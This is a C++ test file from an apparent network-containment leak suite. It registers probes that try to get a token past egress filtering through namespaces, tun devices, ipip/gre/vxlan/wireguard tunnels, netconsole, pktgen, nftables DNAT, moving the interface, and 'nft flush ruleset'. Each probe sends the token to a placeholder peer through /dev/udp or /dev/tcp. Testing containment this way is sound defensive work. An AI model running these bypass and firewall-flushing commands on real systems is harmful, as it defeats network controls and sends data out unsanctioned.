// Ways around: other network namespaces, tunnels, translation, traffic control, and the other firewall flushed.
#include <fcntl.h>
#include <linux/if.h>
#include <linux/if_tun.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>

#include "absl/strings/str_cat.h"
#include "common/errno_status.h"
#include "common/status_macros.h"
#include "test/leak/probe.h"
#include "test/leak/shell_probe.h"
#include "test/leak/sockets.h"

namespace bulkhead::leak {
namespace {

constexpr char kSendUdp[] = "printf %s $TOKEN > /dev/udp/$PEER/$PORT";
constexpr char kDeleteNamespace[] = "ip netns del $NS; ip link del lkd";

std::string InNamespace(const std::string& command) {
  return absl::StrCat("ip netns exec $NS bash -ec '", command, "'");
}

// Makes lkd with `link`, moves it into a namespace and gives it an address there.
std::string DeviceInNamespace(const std::string& link) {
  return absl::StrCat("ip netns add $NS; ip link add ", link, "; ip link set lkd netns $NS; ",
                      "ip -n $NS addr add 10.77.0.50/24 dev lkd; ip -n $NS link set lkd up; sleep 0.2; ");
}

// A container: its own namespace behind a veth pair, forwarded by this host.
constexpr char kContainer[] =
    "ip netns add $NS; ip link add lkd type veth peer name lke; ip link set lke netns $NS; ip addr add 10.78.0.1/24 "
    "dev lkd; "
    "ip link set lkd up; ip -n $NS addr add 10.78.0.2/24 dev lke; ip -n $NS link set lke up; "
    "ip -n $NS route add default via 10.78.0.1; echo 1 > /proc/sys/net/ipv4/ip_forward; sleep 0.2; ";

// A tunnel to `remote` that carries 10.80.0.0/24.
std::string Tunnel(const std::string& link) {
  return absl::StrCat("ip link add ", link, "; ip addr add 10.80.0.1/24 dev lkd; ip link set lkd up; ",
                      "ip neigh add 10.80.0.2 lladdr 02:77:00:00:00:02 dev lkd || true; ");
}
constexpr char kSendThroughTunnel[] = "printf %s $TOKEN > /dev/udp/10.80.0.2/$PORT";
constexpr char kDeleteDevice[] = "ip link del lkd";

ProbeFactory ThroughTunnel(const std::string& link) {
  return Shell({.prepare = "", .attempt = Tunnel(link) + kSendThroughTunnel, .clean = kDeleteDevice});
}

// The kernel's own senders. The log's level lets every message through.
constexpr char kNetconsole[] =
    "modprobe netconsole; [ -e /sys/kernel/config/netconsole ] || mount -t configfs none /sys/kernel/config; "
    "echo 8 > /proc/sys/kernel/printk; T=/sys/kernel/config/netconsole/lk; mkdir $T; echo $IF > $T/dev_name; "
    "echo 10.77.0.1 > $T/local_ip; echo $PEER > $T/remote_ip; echo $PORT > $T/remote_port; "
    "echo 02:77:00:00:00:02 > $T/remote_mac; echo 1 > $T/enabled; ";
constexpr char kSayToKernel[] = "echo $TOKEN > /dev/kmsg; sleep 0.2";
constexpr char kNoNetconsole[] = "rmdir /sys/kernel/config/netconsole/lk; rmmod netconsole";
constexpr char kPktgen[] =
    "modprobe pktgen; cd /proc/net/pktgen; echo add_device $IF > kpktgend_0; echo count 3 > $IF; echo pkt_size 100 > "
    "$IF; "
    "echo dst_mac 02:77:00:00:00:02 > $IF; echo dst $PEER > $IF; echo udp_dst_min $PORT > $IF; "
    "echo udp_dst_max $PORT > $IF; ";
constexpr char kGenerate[] = "cd /proc/net/pktgen; timeout 2 bash -c 'echo start > pgctrl'";
constexpr char kNoPktgen[] = "rmmod pktgen";

// Packets written into a tun device, forwarded by this host, as a virtual machine's or a VPN's are.
class TunProbe : public Probe {
 public:
  explicit TunProbe(bool before) : before_(before) {}

  absl::Status Prepare(const Shot&) override { return before_ ? Open() : absl::OkStatus(); }

  absl::Status Attempt(const Shot& shot) override {
    if (!before_) RETURN_IF_ERROR(Open());
    const std::string packet = Ipv4UdpPacket(shot.token, shot.port, "10.79.0.2");
    if (write(fd_.get(), packet.data(), packet.size()) < 0) return ErrnoToStatus(errno, "write to tun");
    return absl::OkStatus();
  }

 private:
  absl::Status Open() {
    fd_.Reset(open("/dev/net/tun", O_RDWR | O_CLOEXEC));
    if (!fd_.valid()) return ErrnoToStatus(errno, "open /dev/net/tun");
    ifreq request{};
    strncpy(request.ifr_name, "lktun", IFNAMSIZ - 1);
    request.ifr_flags = IFF_TUN | IFF_NO_PI;
    if (ioctl(fd_.get(), TUNSETIFF, &request) != 0) return ErrnoToStatus(errno, "TUNSETIFF");
    return Run("ip addr add 10.79.0.1/24 dev lktun; ip link set lktun up; echo 1 > /proc/sys/net/ipv4/ip_forward");
  }

  const bool before_;
  UniqueFd fd_;
};

// A tunnel to an endpoint that no rule allows. By itself it carries what the kernel says to its link: group reports and
// duplicate address detection.
constexpr char kTunnelToOther[] = "ip link add lkd type vxlan id 7 dev $IF remote 10.77.0.3 dstport $PORT; ";
constexpr char kLetTunnelSpeak[] = "ip link set lkd up; sleep 1";

// Connects to the endpoint that a rule allows through a tunnel that is silent by itself: only the packet around the SYN
// names the other endpoint.
constexpr char kConnectThroughTunnel[] =
    "ip link set lkd addrgenmode none; ip addr add 10.80.0.1/24 dev lkd; ip link set lkd up; ip neigh add $PEER lladdr "
    "02:77:00:00:00:02 dev lkd; ip route add $PEER/32 dev lkd; "
    "timeout 1 bash -c \"printf %s $TOKEN > /dev/tcp/$PEER/7777\"";

// Connects to the endpoint that a rule allows; the shot's port stands in its place on the wire.
constexpr char kDnatOfAllowed[] =
    "nft add table ip lknat; nft add chain ip lknat out \"{ type nat hook output priority -100; }\"; "
    "nft add rule ip lknat out ip daddr $PEER tcp dport 7777 dnat to $PEER:$PORT; "
    "timeout 1 bash -c \"printf %s $TOKEN > /dev/tcp/$PEER/7777\"";

// Sends from a child that lives in another namespace, to which the interface was moved, and brings it back. A move
// takes every tc filter off an interface.
constexpr char kMoveInterface[] =
    "ip netns add $NS; ip link set $IF netns $NS; ip -n $NS addr add 10.77.0.1/24 dev $IF; ip -n $NS link set $IF up; "
    "sleep 0.2; ";
constexpr char kBringInterfaceBack[] =
    "ip -n $NS link set $IF netns $$; ip netns del $NS; ip addr add 10.77.0.1/24 dev $IF; ip -6 addr add fd77::1/64 "
    "dev $IF nodad; "
    "ip link set $IF up";

}  // namespace

void AddDetourProbes(ProbeTable& table) {
  table["netns_forwarded"] =
      Shell({.prepare = "", .attempt = absl::StrCat(kContainer, InNamespace(kSendUdp)), .clean = kDeleteNamespace});
  table["netns_forwarded_before"] =
      Shell({.prepare = kContainer, .attempt = InNamespace(kSendUdp), .clean = kDeleteNamespace});
  table["macvlan_netns"] =
      Shell({.prepare = "",
             .attempt = DeviceInNamespace("lkd link $IF type macvlan mode bridge") + InNamespace(kSendUdp),
             .clean = kDeleteNamespace});
  table["macvlan_netns_before"] = Shell({.prepare = DeviceInNamespace("lkd link $IF type macvlan mode bridge"),
                                         .attempt = InNamespace(kSendUdp),
                                         .clean = kDeleteNamespace});
  table["ipvlan_netns"] =
      Shell({.prepare = "",
             .attempt = DeviceInNamespace("lkd link $IF type ipvlan mode l2") + InNamespace(kSendUdp),
             .clean = kDeleteNamespace});
  table["interface_moved"] = Shell(
      {.prepare = "", .attempt = absl::StrCat(kMoveInterface, InNamespace(kSendUdp)), .clean = kBringInterfaceBack});
  table["tun_forwarded"] = [] { return std::make_unique<TunProbe>(false); };
  table["tun_forwarded_before"] = [] { return std::make_unique<TunProbe>(true); };
  table["tunnel_ipip"] = ThroughTunnel("lkd type ipip local 10.77.0.1 remote $PEER");
  table["tunnel_gre"] = ThroughTunnel("lkd type gretap local 10.77.0.1 remote $PEER");
  table["tunnel_vxlan"] = ThroughTunnel("lkd type vxlan id 7 dev $IF remote $PEER dstport 4789");
  table["nft_dnat_of_allowed"] =
      Shell({.prepare = "", .attempt = kDnatOfAllowed, .clean = "nft delete table ip lknat"});
  table["nft_dnat_in_moved_namespace"] = Shell({.prepare = "",
                                                .attempt = absl::StrCat(kMoveInterface, InNamespace(kDnatOfAllowed)),
                                                .clean = kBringInterfaceBack});
  table["tunnel_speaks"] =
      Shell({.prepare = "", .attempt = absl::StrCat(kTunnelToOther, kLetTunnelSpeak), .clean = kDeleteDevice});
  table["tunnel_speaks_in_moved_namespace"] =
      Shell({.prepare = "",
             .attempt = absl::StrCat(kMoveInterface, InNamespace(absl::StrCat(kTunnelToOther, kLetTunnelSpeak))),
             .clean = absl::StrCat("ip -n $NS link del lkd; ", kBringInterfaceBack)});
  table["tunnel_of_allowed"] =
      Shell({.prepare = "", .attempt = absl::StrCat(kTunnelToOther, kConnectThroughTunnel), .clean = kDeleteDevice});
  table["tunnel_of_allowed_in_moved_namespace"] =
      Shell({.prepare = "",
             .attempt = absl::StrCat(kMoveInterface, InNamespace(absl::StrCat(kTunnelToOther, kConnectThroughTunnel))),
             .clean = absl::StrCat("ip -n $NS link del lkd; ", kBringInterfaceBack)});
  table["wireguard"] = Shell(
      {.prepare = "",
       .attempt = "ip link add lkd type wireguard; wg genkey > /tmp/lk.key; "
                  "wg set lkd private-key /tmp/lk.key peer $(wg genkey | wg pubkey) endpoint $PEER:$PORT "
                  "allowed-ips 10.80.0.0/24; ip addr add 10.80.0.1/24 dev lkd; ip link set lkd up; printf %s $TOKEN > "
                  "/dev/udp/10.80.0.2/$PORT; sleep 0.2",
       .clean = kDeleteDevice});
  table["netconsole"] =
      Shell({.prepare = "", .attempt = absl::StrCat(kNetconsole, kSayToKernel), .clean = kNoNetconsole});
  table["netconsole_before"] = Shell({.prepare = kNetconsole, .attempt = kSayToKernel, .clean = kNoNetconsole});
  table["pktgen"] = Shell({.prepare = "", .attempt = absl::StrCat(kPktgen, kGenerate), .clean = kNoPktgen});
  table["pktgen_before"] = Shell({.prepare = kPktgen, .attempt = kGenerate, .clean = kNoPktgen});
  table["nft_flushed"] = Shell({.prepare = "", .attempt = absl::StrCat("nft flush ruleset; ", kSendUdp), .clean = ""});
  table["loopback_mirrored"] =
      Shell({.prepare = "", .attempt = absl::StrCat(kMirrorLoopback, kSendToLoopback), .clean = kUnmirrorLoopback});
  table["loopback_mirrored_before"] =
      Shell({.prepare = kMirrorLoopback, .attempt = kSendToLoopback, .clean = kUnmirrorLoopback});
}

}  // namespace bulkhead::leak
